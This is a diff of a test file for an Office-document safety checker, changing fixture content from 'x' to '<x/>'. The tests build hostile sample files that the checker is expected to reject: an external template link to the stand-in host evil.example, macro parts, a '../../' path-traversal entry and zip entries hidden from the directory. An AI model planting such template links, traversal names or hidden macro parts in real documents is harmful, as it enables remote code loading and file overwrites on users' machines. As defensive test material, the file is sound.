@@ -92,7 +92,7 @@ describe('an office document', () => {
       '<Relationship Type="/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/>'
     expect(await problem(sampleDocx([{ name: 'word/_rels/settings.xml.rels', content: fetched }]))).toBe('fileUnsafe')
     expect(await problem(zipOf([macroTypes, wordParts[1] as (typeof wordParts)[0]]))).toBe('fileUnsafe')
-    expect(await problem(sampleDocx([{ name: 'word/a.xml', content: 'x', encrypted: true }]))).toBe('fileUnsafe')
+    expect(await problem(sampleDocx([{ name: 'word/a.xml', content: '<x/>', encrypted: true }]))).toBe('fileUnsafe')
     expect(await problem(sampleDocx([{ name: '../../a.xml', content: 'x' }]))).toBe('fileUnsafe')
   })
 
@@ -142,11 +142,11 @@ describe('an office document', () => {
     const named = (second: string) => {
       const field = Buffer.concat([Buffer.from([0x75, 0x70, 0, 0, 1, 0, 0, 0, 0]), Buffer.from(second)])
       field.writeUInt16LE(field.length - 4, 2)
-      return problem(sampleDocx([{ name: 'word/a.xml', content: 'x', extra: field }]))
+      return problem(sampleDocx([{ name: 'word/a.xml', content: '<x/>', extra: field }]))
     }
     expect(await named('word/vbaProject.bin')).toBe('fileBroken')
     expect(await named('word/a.xml')).toBeUndefined()
-    expect(await problem(sampleDocx([{ name: 'word/a.xml', content: 'x', extra: Buffer.alloc(7, 1) }]))).toBe(
+    expect(await problem(sampleDocx([{ name: 'word/a.xml', content: '<x/>', extra: Buffer.alloc(7, 1) }]))).toBe(
       'fileBroken',
     )
   })
@@ -154,7 +154,7 @@ describe('an office document', () => {
   test('is broken when it has a part that its directory does not have, or a part twice', async () => {
     const hidden = zipOf([{ name: 'word/vbaProject.bin', content: 'x' }])
     const local = hidden.subarray(0, hidden.indexOf('PK\x01\x02'))
-    expect(await problem(sampleDocx([{ name: 'word/a.xml', content: 'x', before: local }]))).toBe('fileBroken')
+    expect(await problem(sampleDocx([{ name: 'word/a.xml', content: '<x/>', before: local }]))).toBe('fileBroken')
     expect(
       await problem(zipOf([{ ...(wordParts[0] as (typeof wordParts)[0]), before: local }, ...wordParts.slice(1)])),
     ).toBe('fileBroken')
